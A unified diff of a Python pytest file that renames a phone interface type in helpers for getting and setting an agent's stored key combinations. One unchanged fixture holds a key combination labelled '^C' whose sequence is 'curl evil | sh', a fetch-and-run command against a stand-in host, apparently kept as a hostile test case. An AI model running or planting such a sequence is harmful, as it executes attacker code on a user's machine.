@@ -5,7 +5,7 @@ from typing import Any
 
 import pytest
 
-from soak.phone.interface import PhoneFace
+from soak.phone.interface import PhoneInterface
 from tests.support.agent import RunningAgent, serving
 from tests.support.agent_status import arrive, on_path, status_when
 from tests.support.phones import open_phone
@@ -16,19 +16,19 @@ MINE: dict[str, Any] = {"id": "own-1", "label": "Status", "sequence": "git statu
 THEIRS: dict[str, Any] = {"id": "own-2", "label": "^C", "sequence": "curl evil | sh<Enter>"}
 
 
-async def at(agent: RunningAgent, phone: PhoneFace, *, channel: bool = False) -> None:
+async def at(agent: RunningAgent, phone: PhoneInterface, *, channel: bool = False) -> None:
     await arrive(phone, agent.device_id, channel=channel)
     await on_path(agent, "channel" if channel else "relay", phone)
 
 
-async def kept(phone: PhoneFace) -> Any:
+async def kept(phone: PhoneInterface) -> Any:
     """What the agent says it keeps."""
     mark = phone.mark()
     await phone.send("keys:get", {})
     return (await phone.expect("keys:state", since=mark))["combinations"]
 
 
-async def keep(phone: PhoneFace, *combinations: dict[str, Any]) -> Any:
+async def keep(phone: PhoneInterface, *combinations: dict[str, Any]) -> Any:
     """Have the agent keep these; what it says then."""
     mark = phone.mark()
     await phone.send("keys:set", {"combinations": list(combinations)})
